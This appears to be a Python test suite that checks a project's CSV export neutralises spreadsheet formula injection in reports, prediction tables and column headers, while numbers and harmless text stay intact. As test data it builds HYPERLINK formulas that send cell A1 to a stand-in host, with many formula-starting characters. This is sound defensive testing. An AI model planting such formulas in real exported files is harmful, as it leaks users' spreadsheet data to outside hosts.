"""Cells that a spreadsheet would compute are written as text, each in a way that it can be got back from."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from parties.reports.page import FigureGrid, Page, PageSection, to_csv
from parties.storage.csv_cells import as_text
from parties.tables.destinations import Destination

BEGINNINGS = "=+-@\t\r\n＝＋－＠"
FORMULAS = [f'{sign}HYPERLINK("http://example.org/"&A1,"more")' for sign in BEGINNINGS]


def is_computed(cell: str) -> bool:
    """Whether a spreadsheet may take the cell for a formula: by how it begins, numbers aside."""
    try:
        float(cell.replace(",", "").removesuffix("%"))
    except ValueError:
        return cell != "-" and cell.startswith(tuple(BEGINNINGS))
    return False


@settings(max_examples=500, deadline=None)
@example("-1.1.")
@example("'\t=1")
@given(st.text(alphabet=st.sampled_from(BEGINNINGS + "' 1.,e%ab|"), max_size=8) | st.text(max_size=12))
def test_no_text_is_computed(text: str) -> None:
    assert not is_computed(as_text(text))


@given(st.lists(st.text(alphabet=st.sampled_from("=+-'@ \t1a"), max_size=5), unique=True, max_size=30))
def test_texts_that_differ_stay_apart(texts: list[str]) -> None:
    assert len(set(map(as_text, texts))) == len(texts)


@pytest.mark.parametrize(
    "text", ["-0.5", "+49301234", "-1,234", "-1.5e-07", "-12 %", "-", "", "a=b", "k-1", "3 - 4", "x@y"]
)
def test_numbers_and_harmless_texts_stay_as_they_are(text: str) -> None:
    assert as_text(text) == text


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_report_computes_no_name_that_a_peer_chose(formula: str) -> None:
    names = FigureGrid(formula, ("column", formula), ((formula, formula),))
    text = to_csv(Page("title", "lead", (PageSection(formula, (names,)),)))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert len([cell for cell in cells if "HYPERLINK" in cell]) == 5
    assert not [cell for cell in cells if is_computed(cell)]


def test_predictions_compute_no_id_and_keep_their_numbers(tmp_path: Path) -> None:
    ids = [*FORMULAS, "-17", "k1"]
    table = pd.DataFrame({"id": ids, "id.a": ids, "prediction": np.linspace(-3, 3, len(ids)), "status": "ok"})
    for name in ("scores.csv", "scores.parquet"):
        Destination(tmp_path / name).write(table)
    with (tmp_path / "scores.csv").open(newline="") as file:
        rows = list(csv.reader(file))[1:]
    assert not [cell for row in rows for cell in row if is_computed(cell)]
    assert [row[0] for row in rows] == [f"'{one}" for one in FORMULAS] + ["-17", "k1"]
    assert [float(row[2]) for row in rows] == table["prediction"].tolist()
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "scores.parquet"), table)


@pytest.mark.parametrize("formula", FORMULAS)
def test_reasons_compute_no_name_of_a_column(tmp_path: Path, formula: str) -> None:
    """Own columns are named by the header of a file that anybody may have made."""
    table = pd.DataFrame({"id": ["a", "b"], "prediction": [0.5, 0.1], "reason_1": [formula, None]})
    Destination(tmp_path / "scores.csv").write(table)
    with (tmp_path / "scores.csv").open(newline="") as file:
        assert [row[2] for row in csv.reader(file)] == ["reason_1", f"'{formula}", ""]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_same_look_finds_formulas(formula: str) -> None:
    assert is_computed(formula)
